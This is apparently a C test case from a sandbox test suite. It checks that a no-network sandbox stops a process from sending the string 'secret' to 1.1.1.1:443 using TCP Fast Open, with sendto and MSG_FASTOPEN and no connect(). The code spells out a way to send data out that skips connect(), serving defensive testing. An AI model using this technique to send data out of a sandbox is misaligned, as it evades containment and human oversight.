/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Tries to: send data with the first packet of a connection, before any connect()
 * Promise:  no-network
 * Oracle:   network
 * Stops:    ENETUNREACH=namespace
 * Not promised: process=process-network
 */
#include <arpa/inet.h>
#include <sys/socket.h>

#include "attacks/attack.h"

ATTACK(connect_with_data)
{
	struct sockaddr_in to = {.sin_family = AF_INET,
	                         .sin_port = htons(443),
	                         .sin_addr.s_addr = htonl(0x01010101)};
	int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);

	if (sendto(s, "secret", 6, MSG_FASTOPEN, (struct sockaddr *)&to, sizeof(to)) < 0)
		attack_stopped("sendto");
	return 0;
}
